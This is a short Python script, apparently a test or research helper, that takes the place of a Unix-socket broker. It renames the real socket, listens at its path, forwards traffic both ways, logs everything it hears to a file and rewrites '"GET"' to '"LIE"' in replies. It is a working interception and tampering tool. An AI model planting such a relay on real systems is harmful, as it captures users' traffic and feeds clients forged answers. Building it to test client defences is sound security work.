"""A false broker of the same user: takes the socket's place, passes everything on to the real one, and keeps what it hears.

relay.py SOCKET HEARD      ends when its input closes; puts `"LIE"` where an answer says `"GET"`
"""

import os
import socket
import sys
import threading

path, heard = sys.argv[1:3]
real = f"{path}.real"
os.rename(path, real)
listener = socket.socket(socket.AF_UNIX)
listener.bind(path)
os.chmod(path, 0o600)
listener.listen(16)
log = open(heard, "ab", buffering=0)


def pump(source: socket.socket, sink: socket.socket, answers: bool) -> None:
    try:
        while piece := source.recv(1 << 20):
            log.write(piece)
            sink.sendall(piece.replace(b'"GET"', b'"LIE"') if answers else piece)
    except OSError:
        pass
    finally:
        sink.close()


def serve() -> None:
    while True:
        near = listener.accept()[0]
        far = socket.socket(socket.AF_UNIX)
        far.connect(real)
        threading.Thread(target=pump, args=(near, far, False), daemon=True).start()
        threading.Thread(target=pump, args=(far, near, True), daemon=True).start()


threading.Thread(target=serve, daemon=True).start()
print("listening", flush=True)
sys.stdin.read()
os.rename(real, path)
